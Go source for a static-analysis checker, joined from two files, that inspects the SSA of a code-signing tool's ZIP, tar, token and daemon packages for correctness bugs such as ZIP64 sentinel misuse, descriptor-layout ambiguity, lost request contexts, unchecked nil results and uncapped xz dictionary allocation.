						Detail: fmt.Sprintf("the 32-bit field %s is compared with a 64-bit size without first testing it for the ZIP64 sentinel 0xffffffff: for a ZIP64 member the field holds the sentinel and the real value is in the extra field, so valid archives are misjudged", field)})
				}
			}
		}
	}
	return
}

func c17Sentinel(c *Ctx) {
	for _, f := range sentinelCompares(c.P) {
		c.Check(f.OK, "R17k", f.Key, f.Pos, "behind the sentinel test", f.Detail, f.Path...)
	}
	c.runControl("R17k sentinel-blind comparison", "zipctl.Check", sentinelCompares)
}

var _ = types.Typ

// ------------------------------------------------------------------------------ R17l

// c17DescriptorDiscriminator: NewFile writes the 64-bit data descriptor whatever the sizes, so
// sizes alone cannot tell the reader which layout it is looking at (for an empty member both
// fit). The reader must consult something the writer records for that purpose.
func c17DescriptorDiscriminator(c *Ctx) {
	p := c.P
	nf := p.Func("lib/zipslicer.(*Directory).NewFile")
	rd := p.Func("lib/zipslicer.(*File).readDataDesc")
	if nf == nil || rd == nil {
		c.Undecided("R17l", "NewFile/readDataDesc", "-", "function not found")
		return
	}
	// writer: which descriptor types does it serialise, and is the choice size-dependent?
	var useDesc *ssa.Parameter
	for _, pa := range nf.Params {
		if pa.Name() == "useDesc" {
			useDesc = pa
		}
	}
	wide, narrow := false, false
	for _, io := range p.binIOIn([]*ssa.Function{nf}) {
		if !io.Write {
			continue
		}
		switch io.Type {
		case "lib/zipslicer.zipDataDesc64":
			wide = true
		case "lib/zipslicer.zipDataDesc":
			narrow = true
		}
	}
	if !wide || narrow {
		c.PassTrivial("R17l", "descriptor layout written by NewFile", p.Pos(nf.Pos()), "the writer does not emit the 64-bit layout unconditionally; the size-based inference is unambiguous for what it writes")
		return
	}
	// the mark the writer leaves: ReaderVersion = zip45 on the useDesc side
	markOK := false
	if useDesc != nil {
		g := Guard{Name: "useDesc", Match: func(f Fact) bool { return f.V == ssa.Value(useDesc) && f.Kind == IsTrue }}
		for _, b := range nf.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				if tn, f, _ := p.fieldAddr(st.Addr); tn == "lib/zipslicer.File" && f == "ReaderVersion" && isIntConst(st.Val, 45) {
					if missing, _ := p.unguardedFromEntry(nf, st, g); len(missing) == 0 {
						markOK = true
					}
				}
			}
		}
	}
	c.Check(markOK, "R17l", "NewFile marks members with a 64-bit descriptor as ZIP64 (version 45)", p.Pos(nf.Pos()), "", "NewFile writes the 64-bit descriptor layout without marking the member as needing ZIP64 support: no reader can tell the layout of an empty member")
	// reader: the branch that reads the second half of the descriptor depends on that mark
	var wideRead ssa.Instruction
	for _, io := range p.binIOIn([]*ssa.Function{rd}) {
		if !io.Write && io.Type == "lib/zipslicer.zipDataDesc64" {
			wideRead = io.Call
		}
	}
	if wideRead == nil {
		c.Fail("R17l", "readDataDesc reads the 64-bit layout", p.Pos(rd.Pos()), "readDataDesc never decodes a 64-bit descriptor although NewFile writes one")
		return
	}
	consults := false
	for _, b := range rd.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		if dependsOn(ifi.Cond, func(x ssa.Value) bool {
			tn, f, _ := p.fieldLoad(x)
			return tn == "lib/zipslicer.zipLocalHeader" && f == "ReaderVersion"
		}) && reach(rd, b.Succs, nil, nil)[wideRead.Block().Index] {
			consults = true
		}
	}
	c.Check(consults, "R17l", "readDataDesc consults the ZIP64 mark when choosing the layout", p.Pos(wideRead.Pos()), "the choice depends on lfh.ReaderVersion",
		"readDataDesc chooses between the 16-byte and the 24-byte descriptor by comparing sizes only, while NewFile writes the 24-byte layout for members of every size: for an empty member both layouts match (the upper half of a 64-bit compressed size is zero) and relic takes its own member to be 8 bytes shorter than it is; re-signing then cuts the archive in the wrong place")
}

// ------------------------------------------------------------------------------ R17m

// c17RawReadOnly: File.raw caches the ORIGINAL bytes of a directory entry so that an unmodified
// directory is re-emitted exactly. Copies of a File (MangleFile) share that slice with the
// source directory, so it must never be written through: it is only ever replaced as a whole
// (a fresh make+copy, or nil).
func c17RawReadOnly(c *Ctx) {
	p := c.P
	n := 0
	for _, fn := range p.pkgFuncs("lib/zipslicer") {
		k := 0
		isRaw := func(v ssa.Value) bool {
			return dependsOn(v, func(x ssa.Value) bool {
				if l, ok := x.(*ssa.UnOp); ok && l.Op == token.MUL {
					return p.memKey(l.X) == "f:lib/zipslicer.File.raw"
				}
				return false
			})
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				what := ""
				switch x := in.(type) {
				case *ssa.Store:
					if ia, ok := x.Addr.(*ssa.IndexAddr); ok && isRaw(ia.X) {
						what = "element store"
					}
				case ssa.CallInstruction:
					name := p.calleeName(x.Common())
					switch {
					case strings.HasPrefix(name, "(encoding/binary.littleEndian).Put") || strings.HasPrefix(name, "(encoding/binary.bigEndian).Put"):
						if isRaw(x.Common().Args[1]) {
							what = name
						}
					case name == "copy" || (x.Common().StaticCallee() == nil && !x.Common().IsInvoke()):
						if bi, ok := x.Common().Value.(*ssa.Builtin); ok && bi.Name() == "copy" && isRaw(x.Common().Args[0]) {
							// copy INTO raw is fine only when raw was just allocated in this function
							if !c17FreshRaw(p, fn, x.Common().Args[0]) {
								what = "copy into the cached entry"
							}
						}
					}
				}
				if what == "" {
					continue
				}
				n++
				k++
				c.Fail("R17m", fmt.Sprintf("%s writes through File.raw#%d", p.FName(fn), k), p.Pos(in.Pos()), "the cached original directory entry (File.raw) is modified in place ("+what+"): copies of the File made by Mangle share that slice with the directory that was read, so re-emitting the \"unmodified\" source directory afterwards no longer reproduces the original bytes")
			}
		}
	}
	// the one legitimate writer: ReadWithDirectory fills a freshly made slice
	okFill := false
	if rw := p.Func("lib/zipslicer.ReadWithDirectory"); rw != nil {
		for _, b := range rw.Blocks {
			for _, in := range b.Instrs {
				if st, ok := in.(*ssa.Store); ok && p.memKey(st.Addr) == "f:lib/zipslicer.File.raw" {
					if _, isMk := st.Val.(*ssa.MakeSlice); isMk {
						okFill = true
					}
				}
			}
		}
	}
	c.Check(okFill, "R17m", "ReadWithDirectory caches each entry in a slice of its own", "-", "f.raw = make(...) then copy", "the original directory entry is no longer cached in a freshly allocated slice")
}

func c17FreshRaw(p *Prog, fn *ssa.Function, dst ssa.Value) bool {
	l, ok := dst.(*ssa.UnOp)
	if !ok || l.Op != token.MUL {
		return false
	}
	sv := p.lastStoreBefore(l)
	_, isMk := sv.(*ssa.MakeSlice)
	return isMk
}

// ------------------------------------------------------------------------------ R17n-p (third round)

func c17Round3(c *Ctx) {
	p := c.P
	c.Rule("R17n", "the two members of the upload tarball end at the same file offset: zipdir.bin is [dirLoc, X) and contents.zip is [0, X)", 1)
	c.Rule("R17o", "the ZIP64 end record is consulted only when the classic end record is saturated, as standard readers do", 1)
	c.Rule("R17p", "reproducing the original directory does not change the Directory it is asked about", 1)

	c.Rule("R17q", "the directory offset Truncate records does not depend on whether a body writer was given", 1)
	c.Rule("R17s", "a ReadAt method fills the buffer or returns an error (module-wide)", 1)
	for _, f := range readAtFills(p) {
		c.Check(f.OK, "R17s", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R17t", "in lib/zipslicer nothing is appended to a field that is a view into the directory buffer", 1)
	for _, f := range viewsNotAppendedTo(p, "lib/zipslicer") {
		c.Check(f.OK, "R17t", f.Key, f.Pos, f.Detail, f.Detail)
	}
	c.Rule("R17v", "the Directory an APK digest keeps for the signing step carries the archive's own directory offset again", 1)
	for _, f := range keptDirectoryHasItsOwnOffset(p) {
		c.Check(f.OK, "R17v", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R17u", "two narrow length fields are widened before they are added (module-wide)", 1)
	for _, f := range sumsWidenedFirst(p) {
		c.Check(f.OK, "R17u", f.Key, f.Pos, f.Detail, f.Detail)
	}
	for _, f := range truncateOffsetIndependent(p) {
		c.Check(f.OK, "R17q", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R17r", "the name and extra field kept for a local header are read from the local header itself", 2)
	for _, f := range localHeaderFromItself(p) {
		c.Check(f.OK, "R17r", f.Key, f.Pos, "", f.Detail)
	}
	// ---- R17n
	if fn := p.Func("lib/zipslicer.ZipToTarSize"); fn == nil {
		c.Undecided("R17n", "zipslicer.ZipToTarSize", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		// the tar headers ZipToTarSize writes: tar.Header literals in the function itself, or in a
		// helper of the package it calls with the name and the size (tarAddStream today)
		var cdLen, zipLen ssa.Value
		classify := func(name, size ssa.Value) {
			if name == nil || size == nil {
				return
			}
			if u, ok := stripConv(name).(*ssa.UnOp); ok {
				if g, ok := u.X.(*ssa.Global); ok {
					switch g.Name() {
					case "TarMemberCD":
						cdLen = size
					case "TarMemberZip":
						zipLen = size
					}
				}
			}
			if s, ok := constString(name); ok {
				switch s {
				case "zipdir.bin":
					cdLen = size
				case "contents.zip":
					zipLen = size
				}
			}
		}
		headerFields := func(h *ssa.Function) [][2]ssa.Value {
			var out [][2]ssa.Value
			for _, b := range h.Blocks {
				for _, in := range b.Instrs {
					al, ok := in.(*ssa.Alloc)
					if !ok {
						continue
					}
					pt, ok := al.Type().(*types.Pointer)
					if !ok || !strings.HasSuffix(pt.Elem().String(), "archive/tar.Header") {
						continue
					}
					var pair [2]ssa.Value
					for _, r := range *al.Referrers() {
						fa, ok := r.(*ssa.FieldAddr)
						if !ok {
							continue
						}
						_, f, _ := p.fieldAddr(fa)
						for _, r2 := range *fa.Referrers() {
							if st, ok := r2.(*ssa.Store); ok && st.Addr == ssa.Value(fa) {
								switch f {
								case "Name":
									pair[0] = st.Val
								case "Size":
									pair[1] = st.Val
								}
							}
						}
					}
					out = append(out, pair)
				}
			}
			return out
		}
		for _, pair := range headerFields(fn) {
			classify(pair[0], pair[1])
		}
		for _, ci := range callsOf(fn) {
			h := ci.Common().StaticCallee()
			if h == nil || h.Pkg != fn.Pkg || h.Blocks == nil {
				continue
			}
			actual := func(v ssa.Value) ssa.Value {
				if pa, ok := v.(*ssa.Parameter); ok {
					for i, hp := range h.Params {
						if hp == pa && i < len(ci.Common().Args) {
							return ci.Common().Args[i]
						}
					}
				}
				return v
			}
			for _, pair := range headerFields(h) {
				if pair[0] != nil && pair[1] != nil {
					classify(actual(pair[0]), actual(pair[1]))
				}
			}
		}
		if cdLen == nil || zipLen == nil {
			c.Undecided("R17n", "tar members written by ZipToTarSize", p.Pos(fn.Pos()), "the two tarAddStream calls were not recognised")
		} else {
			bo, ok := stripConv(cdLen).(*ssa.BinOp)
			same := ok && bo.Op == token.SUB && stripConv(bo.X) == stripConv(zipLen)
			c.Check(same, "R17n", "zipdir.bin length is contents.zip length minus the directory offset", p.Pos(fn.Pos()), "X - dirLoc and X",
				"the directory member does not end where the zip member ends: every consumer (ReadZipTar, DigestXapTar) places the directory at len(contents.zip) - len(zipdir.bin), so a signature trailer that is carried in one member only shifts the directory by its length - an already signed XAP is digested and patched at the wrong offsets")
		}
	}
	// ---- R17o
	if fn := p.Func("lib/zipslicer.FindDirectory"); fn == nil {
		c.Undecided("R17o", "zipslicer.FindDirectory", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		// reads of the ZIP64 end record: ReadAt whose offset comes from the locator
		var z64 []ssa.Instruction
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok || ci.Common().Method == nil || ci.Common().Method.Name() != "ReadAt" {
					continue
				}
				args := ci.Common().Args
				if dependsOn(args[len(args)-1], func(x ssa.Value) bool {
					tn, f, _ := p.fieldLoad(x)
					return strings.HasSuffix(tn, "zip64Loc") && f == "Offset"
				}) {
					z64 = append(z64, in)
				}
			}
		}
		if len(z64) == 0 {
			c.Undecided("R17o", "ZIP64 end record read", p.Pos(fn.Pos()), "no ReadAt at the locator's offset found")
		}
		// saturation tests of the classic end record
		// an edge on which some field of the classic end record is known to be saturated: the true
		// side of `field == max`, the false side of `field != max` (also behind a named boolean)
		satCmp := func(bo *ssa.BinOp) bool {
			tn, f, _ := p.fieldLoad(stripConv(bo.X))
			k, isK := constInt(bo.Y)
			if !strings.HasSuffix(tn, "zipEndRecord") || !isK {
				return false
			}
			return (f == "TotalCDCount" && k == 0xffff) || (f == "CDCount" && k == 0xffff) || (f == "CDSize" && k == 0xffffffff) || (f == "CDOffset" && k == 0xffffffff)
		}
		del := passEdges(fn, Guard{Name: "a field of the end record is saturated", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok || !satCmp(bo) {
				return false
			}
			return (bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)
		}})
		nSat := len(del)
		for i, in := range z64 {
			seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)
			c.Check(nSat > 0 && !seen[in.Block().Index], "R17o", fmt.Sprintf("ZIP64 end record read#%d only behind a saturated field", i+1), p.Pos(in.Pos()), fmt.Sprintf("%d saturation tests", nSat),
				"the ZIP64 end record is read although no field of the classic end record is 0xFFFF / 0xFFFFFFFF: archive/zip, Python and Info-ZIP take the classic record at its word in that case, so bytes that merely look like a ZIP64 locator (the tail of a file comment) make relic read a different central directory than every other reader")
		}
	}
	// ---- R17p
	if fn := p.Func("lib/zipslicer.(*Directory).GetOriginalDirectory"); fn == nil {
		c.Undecided("R17p", "(*Directory).GetOriginalDirectory", "-", "function not found")
	} else {
		bad := ""
		n := 0
		for f := range p.moduleReachOpt([]*ssa.Function{fn}, false) {
			n++
			c.Analysed(p.FName(f))
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					st, ok := in.(*ssa.Store)
					if !ok {
						continue
					}
					// a store into a field of a Directory (or of a record inside it) reached from a parameter
					v := st.Addr
					inDir := false
					for i := 0; i < 8; i++ {
						fa, ok := v.(*ssa.FieldAddr)
						if !ok {
							break
						}
						if tn, _, _ := p.fieldAddr(fa); strings.HasSuffix(tn, "lib/zipslicer.Directory") {
							inDir = true
						}
						v = fa.X
					}
					if _, isParam := v.(*ssa.Parameter); inDir && isParam {
						bad = fmt.Sprintf("%s at %s", p.FName(f), p.Pos(st.Pos()))
					}
				}
			}
		}
		c.Check(bad == "", "R17p", "GetOriginalDirectory leaves the Directory as it found it", p.Pos(fn.Pos()), fmt.Sprintf("%d functions on the path, no store into a Directory", n),
			"a field of the Directory is overwritten on the way ("+bad+"): the trimmed offsets stick, so a second call (a second APK signer, a later WriteDirectory) starts from records that were already shifted and reproduces a different end-of-directory")
	}
}
