package main

// Rules added after the fourth seeding round, third part (batch 2: C02 C04 C06 C07 C11 C12 C13 C14 C15 C18 C20).

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ------------------------------------------------------------------------------ R12n

// bufferedAndPositioned: a stream that a function reads through a bufio.Reader is not also moved by
// that function with a relative Seek: the file position is ahead of the reader's by whatever sits in
// the buffer, so "skip n bytes from here" on the file skips from the wrong place. A relative seek
// whose offset accounts for Buffered() is accepted; absolute seeks are not judged.
func bufferedAndPositioned(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		if len(fn.Blocks) == 0 {
			continue
		}
		wrapped := map[ssa.Value]ssa.CallInstruction{}
		for _, ci := range p.callsIn(fn, "bufio.NewReader", "bufio.NewReaderSize") {
			src := stripConv(ci.Common().Args[0])
			if !hasMethod(src.Type(), "Seek") {
				continue
			}
			wrapped[src] = ci
		}
		if len(wrapped) == 0 {
			continue
		}
		var srcs []ssa.Value
		for src := range wrapped {
			srcs = append(srcs, src)
		}
		sort.Slice(srcs, func(i, j int) bool { return wrapped[srcs[i]].Pos() < wrapped[srcs[j]].Pos() })
		for n, src := range srcs {
			wrap := wrapped[src]
			key := fmt.Sprintf("%s: the stream read through bufio.Reader#%d is not moved by a relative Seek", p.FName(fn), n+1)
			bad := ""
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					ci, ok := in.(ssa.CallInstruction)
					if !ok {
						continue
					}
					cc := ci.Common()
					name := ""
					var recv ssa.Value
					var args []ssa.Value
					if cc.IsInvoke() {
						name, recv, args = cc.Method.Name(), cc.Value, cc.Args
					} else if f := cc.StaticCallee(); f != nil && f.Signature.Recv() != nil && len(cc.Args) > 0 {
						name, recv, args = f.Name(), cc.Args[0], cc.Args[1:]
					}
					if name != "Seek" || len(args) != 2 || stripConv(recv) != src {
						continue
					}
					if wh, ok := constInt(args[1]); !ok || wh != 1 {
						continue
					}
					if k, ok := constInt(args[0]); ok && k == 0 {
						continue // a position query
					}
					compensated := dependsOn(args[0], func(x ssa.Value) bool {
						c, ok := x.(*ssa.Call)
						return ok && p.calleeName(c.Common()) == "(*bufio.Reader).Buffered"
					})
					if !compensated {
						bad = p.Pos(in.Pos())
					}
				}
			}
			out = append(out, gFinding{Key: key, Pos: p.Pos(wrap.Pos()), OK: bad == "",
				Detail: "the file is moved with a relative Seek at " + bad + " while it is also read through a bufio.Reader: the file's position is ahead of the reader's by the bytes still buffered, so the skip starts from the wrong place and kept data after a large replaced range is dropped from (or a later range runs off the end of) the rewritten file"})
		}
	}
	return out
}

func hasMethod(t types.Type, name string) bool {
	for _, tt := range []types.Type{t, types.NewPointer(t)} {
		ms := types.NewMethodSet(tt)
		for i := 0; i < ms.Len(); i++ {
			if ms.At(i).Obj().Name() == name {
				return true
			}
		}
	}
	return false
}

var _ = token.NoPos

// ------------------------------------------------------------------------------ R07h

// ctxLeaves: the contexts v is derived from: parents of context.With* calls, phi edges and spilled
// locals are followed; everything else is a leaf.
func ctxLeaves(p *Prog, v ssa.Value, seen map[ssa.Value]bool, stop func(ssa.Value) bool) []ssa.Value {
	v = stripConv(v)
	if v == nil || seen[v] {
		return nil
	}
	seen[v] = true
	if stop != nil && stop(v) {
		return []ssa.Value{v}
	}
	switch x := v.(type) {
	case *ssa.Extract:
		if call, ok := x.Tuple.(*ssa.Call); ok && x.Index == 0 {
			return ctxLeaves(p, call, seen, stop)
		}
	case *ssa.Call:
		switch p.calleeName(x.Common()) {
		case "context.WithTimeout", "context.WithDeadline", "context.WithCancel", "context.WithValue", "context.WithCancelCause", "context.WithTimeoutCause", "context.WithDeadlineCause":
			return ctxLeaves(p, x.Call.Args[0], seen, stop)
		}
	case *ssa.Phi:
		var out []ssa.Value
		for _, e := range x.Edges {
			out = append(out, ctxLeaves(p, e, seen, stop)...)
		}
		return out
	case *ssa.UnOp:
		if a, ok := x.X.(*ssa.Alloc); ok && x.Op == token.MUL {
			var out []ssa.Value
			for _, ref := range *a.Referrers() {
				if st, ok := ref.(*ssa.Store); ok && st.Addr == ssa.Value(a) {
					out = append(out, ctxLeaves(p, st.Val, seen, stop)...)
				}
			}
			return out
		}
	}
	return []ssa.Value{v}
}

// pinnedContextReachesToken: the worker's RPC handler pins the key id the caller saw into the request
// context (token.WithKeyID). Every token operation of that request has to run under that context or a
// child of it: a context built from anything else has lost the pin, and after a rotation the signature
// is made with a key other than the one whose certificate the client embeds.
func pinnedContextReachesToken(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.Funcs {
		if len(fn.Blocks) == 0 {
			continue
		}
		pins := p.callsIn(fn, "token.WithKeyID")
		if len(pins) == 0 {
			continue
		}
		isPin := func(v ssa.Value) bool {
			for _, pc := range pins {
				if v == pc.Value() {
					return true
				}
			}
			return false
		}
		// the contexts the pin was put on
		roots := map[ssa.Value]bool{}
		for _, pc := range pins {
			for _, l := range ctxLeaves(p, pc.Common().Args[0], map[ssa.Value]bool{}, nil) {
				roots[l] = true
			}
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cc := ci.Common()
				name := ""
				if cc.IsInvoke() {
					name = cc.Method.Name()
				} else if f := cc.StaticCallee(); f != nil {
					name = f.Name()
				}
				switch name {
				case "GetKey", "SignContext", "Ping", "ListKeys", "Import", "Generate":
				default:
					continue
				}
				// the context argument
				var ctxArg ssa.Value
				for _, a := range cc.Args {
					if types.TypeString(a.Type(), nil) == "context.Context" {
						ctxArg = a
						break
					}
				}
				if ctxArg == nil {
					continue
				}
				if name != "GetKey" && name != "SignContext" {
					continue
				}
				n++
				hasPin, foreign := false, ""
				for _, l := range ctxLeaves(p, ctxArg, map[ssa.Value]bool{}, isPin) {
					switch {
					case isPin(l):
						hasPin = true
					case roots[l]:
					default:
						foreign = describeVal(p, l)
						if c, ok := l.(*ssa.Call); ok {
							foreign = p.calleeName(c.Common()) + "()"
						}
					}
				}
				ok2 := hasPin && foreign == ""
				why := "it descends from " + foreign
				if foreign == "" {
					why = "the pinned context is not among its ancestors"
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s %s#%d runs under the context that carries the pinned key id", p.FName(fn), name, n), Pos: p.Pos(in.Pos()), OK: ok2,
					Detail: "the context handed to " + name + " is not the one token.WithKeyID pinned the caller's key id into, nor a child of it (" + why + "): the pin is lost, and after a key rotation the operation resolves the key name to the new version while the client embeds the certificate of the version it saw"})
			}
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "a handler pins the key id and calls the token", Pos: "-", OK: false, Detail: "no function both calls token.WithKeyID and runs GetKey / SignContext (workercmd.(*handler).handle did)"})
	}
	return out
}

// ------------------------------------------------------------------------------ R14k

// keysHoldNoRequestContext: what a token's GetKey returns is kept by the key cache for later requests.
// No GetKey implementation stores the context of the call that fetched the key (or a child of it) into
// the object it returns: once that request ends the stored context is cancelled and every later
// request that is served the cached key fails.
func keysHoldNoRequestContext(p *Prog) (out []gFinding) {
	iface := p.ifaceNamed("token", "Token")
	if iface == nil {
		return []gFinding{{Key: "token.Token", Pos: "-", OK: false, Detail: "interface not found"}}
	}
	n := 0
	for _, t := range p.implementersOf(iface) {
		fn := p.methodOf(t, "GetKey")
		if fn == nil || len(fn.Blocks) == 0 {
			continue
		}
		var ctxPar *ssa.Parameter
		for _, pa := range fn.Params {
			if types.TypeString(pa.Type(), nil) == "context.Context" {
				ctxPar = pa
			}
		}
		if ctxPar == nil {
			continue
		}
		n++
		bad := ""
		for _, f := range withClosures(fn) {
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					st, ok := in.(*ssa.Store)
					if !ok {
						continue
					}
					if types.TypeString(st.Val.Type(), nil) != "context.Context" {
						continue
					}
					if _, isField := st.Addr.(*ssa.FieldAddr); !isField {
						continue
					}
					if ctxLineage(p, st.Val, ctxPar, 0) {
						tn, fld, _ := p.fieldAddr(st.Addr)
						bad = tn + "." + fld + " at " + p.Pos(st.Pos())
					}
				}
			}
		}
		out = append(out, gFinding{Key: p.FName(fn) + " keeps no request context in what it returns", Pos: p.Pos(fn.Pos()), OK: bad == "",
			Detail: "GetKey stores the context it was called with into " + bad + ": the key cache serves that key object to later requests, whose operations then run under (and fail with) the finished request's cancelled context"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "token.Token implementations with GetKey(ctx, ...)", Pos: "-", OK: false, Detail: "none found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R20i

// shutdownAlwaysClosesServer: the closure Daemon.Close runs in its errgroup calls Server.Close on
// every path to every return: Server.Close is what stops the health loop and closes the Closed
// channel, and a shutdown that gave up on the listeners must still do that.
func shutdownAlwaysClosesServer(p *Prog) (out []gFinding) {
	fn := p.Func("server/daemon.(*Daemon).Close")
	if fn == nil {
		return []gFinding{{Key: "(*Daemon).Close", Pos: "-", OK: false, Detail: "function not found"}}
	}
	n := 0
	for _, body := range withClosures(fn) {
		if body == fn || len(p.callsIn(body, "(*net/http.Server).Shutdown")) == 0 {
			continue
		}
		n++
		cl := p.callsIn(body, "(*server.Server).Close")
		bad := ""
		var path []string
		if len(cl) == 0 {
			bad = "no call of Server.Close"
		} else {
			for _, r := range returnsOf(body) {
				avoid := true
				for _, c := range cl {
					if !avoidable(body, c, r) {
						avoid = false
					}
				}
				if avoid {
					bad = "return at " + p.Pos(r.Pos())
				}
			}
		}
		out = append(out, gFinding{Key: p.FName(body) + " closes the server on every path", Pos: p.Pos(body.Pos()), OK: bad == "", Path: path,
			Detail: "the shutdown step can finish without calling Server.Close (" + bad + "): when Shutdown fails (its five-minute context expires on a stuck request, a listener reports a close error) the health loop is never signalled and keeps pinging tokens of a daemon that reported itself closed, and the Closed channel stays open"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "(*Daemon).Close shutdown step", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no closure of Daemon.Close calls http.Server.Shutdown"})
	}
	return out
}

// ------------------------------------------------------------------------------ R11p

// failedResultDereferenced: a pointer result of a module function that is nil whenever the function
// fails is dereferenced at a point that the failure also reaches: no test of the error (or of the
// pointer) lies between the call and the dereference. A definite nil dereference for every input
// that makes the callee fail; in a helper goroutine it takes the process down.
func failedResultDereferenced(p *Prog) (out []gFinding) {
	// callee -> result index -> "nil together with a non-nil error on some return"
	nilOnErr := map[*ssa.Function]map[int]bool{}
	for _, fn := range p.Funcs {
		ei := errResultIndex(fn.Signature)
		if ei < 0 {
			continue
		}
		for _, r := range returnsOf(fn) {
			if ei >= len(r.Results) || isNilConst(r.Results[ei]) {
				continue
			}
			for i, rv := range r.Results {
				if i == ei {
					continue
				}
				if _, isPtr := rv.Type().Underlying().(*types.Pointer); !isPtr {
					continue
				}
				if isNilConst(rv) {
					if nilOnErr[fn] == nil {
						nilOnErr[fn] = map[int]bool{}
					}
					nilOnErr[fn][i] = true
				}
			}
		}
	}
	for _, fn := range p.Funcs {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ex, ok := in.(*ssa.Extract)
				if !ok {
					continue
				}
				call, ok := ex.Tuple.(*ssa.Call)
				if !ok {
					continue
				}
				sc := call.Common().StaticCallee()
				if sc == nil || !nilOnErr[sc][ex.Index] {
					continue
				}
				ei := errResultIndex(sc.Signature)
				// the edges on which the failure is excluded: err == nil, or the pointer != nil
				g := Guard{Name: "err==nil or result!=nil", Match: func(f Fact) bool {
					fv := stripConv(f.V)
					if l, ok := fv.(*ssa.UnOp); ok && l.Op == token.MUL {
						if sv := lastStoreBefore(l); sv != nil {
							fv = stripConv(sv)
						}
					}
					if e2, ok := fv.(*ssa.Extract); ok && e2.Tuple == ex.Tuple {
						if e2.Index == ei && f.Kind == IsNil {
							return true
						}
						if e2.Index == ex.Index && f.Kind == NonNil {
							return true
						}
					}
					return false
				}}
				del := passEdges(fn, g)
				refs := ex.Referrers()
				if refs == nil {
					continue
				}
				for _, r := range *refs {
					deref := false
					switch x := r.(type) {
					case *ssa.FieldAddr:
						deref = x.X == ssa.Value(ex)
					case *ssa.UnOp:
						deref = x.Op == token.MUL && x.X == ssa.Value(ex)
					case *ssa.Store:
						deref = x.Addr == ssa.Value(ex)
					}
					if !deref {
						continue
					}
					n++
					pred := map[int]int{}
					bad := false
					var path []string
					if r.Block() == call.Block() && instrIndex(r) > instrIndex(call) {
						bad = true
					} else if reachAfter(fn, call, del, pred)[r.Block().Index] {
						bad = true
						path = p.witness(fn, pred, r.Block().Index)
					}
					out = append(out, gFinding{Key: fmt.Sprintf("%s uses the result of %s only where it succeeded #%d", p.FName(fn), p.FName(sc), n), Pos: p.Pos(r.Pos()), OK: !bad, Path: path,
						Detail: "the pointer " + p.FName(sc) + " returns is nil whenever it fails, and it is dereferenced here on a path that has tested neither the error nor the pointer: every input that makes " + p.FName(sc) + " fail is a nil dereference" + goroutineNote(fn)})
				}
			}
		}
	}
	return out
}

func goroutineNote(fn *ssa.Function) string {
	if fn.Parent() != nil {
		return " (inside a function literal: if it runs as a goroutine, nothing recovers the panic and the process aborts)"
	}
	return ""
}

// ------------------------------------------------------------------------------ R11o

// xzDictionaryCapped: the xz decoder allocates the dictionary a block header announces, up to the
// limit NewReader is given; 0 selects the library's cap. Every call passes a constant no larger
// than 64 MiB.
func xzDictionaryCapped(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.Funcs {
		for _, ci := range p.callsIn(fn, "github.com/xi2/xz.NewReader") {
			n++
			k, isC := constInt(ci.Common().Args[1])
			out = append(out, gFinding{Key: fmt.Sprintf("%s xz.NewReader#%d dictionary limit", p.FName(fn), n), Pos: p.Pos(ci.Pos()), OK: isC && k >= 0 && k <= 1<<26,
				Detail: "xz.NewReader is given a dictionary limit that is not a constant of at most 64 MiB (0 = the library's cap): the decoder allocates the dictionary size the block header announces, so a file of a hundred bytes makes the type probe allocate up to 4 GiB"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "xz.NewReader calls", Pos: "-", OK: true, Detail: "no xz decoder in use"})
	}
	return out
}

// lastStoreBefore: for a load of a local variable's cell, the value stored into that cell by the
// nearest preceding store in the same block (nil when there is none or a call intervenes that could
// write the cell through a captured reference).
func lastStoreBefore(l *ssa.UnOp) ssa.Value {
	a, ok := l.X.(*ssa.Alloc)
	if !ok {
		return nil
	}
	b := l.Block()
	idx := instrIndex(l)
	for i := idx - 1; i >= 0; i-- {
		switch x := b.Instrs[i].(type) {
		case *ssa.Store:
			if x.Addr == ssa.Value(a) {
				return x.Val
			}
		case ssa.CallInstruction:
			_ = x
			return nil
		}
	}
	return nil
}

// ------------------------------------------------------------------------------ R13d

var encoderConstructors = map[string]string{
	"golang.org/x/crypto/openpgp/armor.Encode":                 "Close",
	"github.com/ProtonMail/go-crypto/openpgp/armor.Encode":     "Close",
	"github.com/ProtonMail/go-crypto/openpgp/clearsign.Encode": "Close",
	"golang.org/x/crypto/openpgp/clearsign.Encode":             "Close",
	"compress/gzip.NewWriter":                                  "Close",
	"compress/gzip.NewWriterLevel":                             "Close",
	"compress/zlib.NewWriter":                                  "Close",
	"compress/zlib.NewWriterLevel":                             "Close",
	"archive/tar.NewWriter":                                    "Close",
	"archive/zip.NewWriter":                                    "Close",
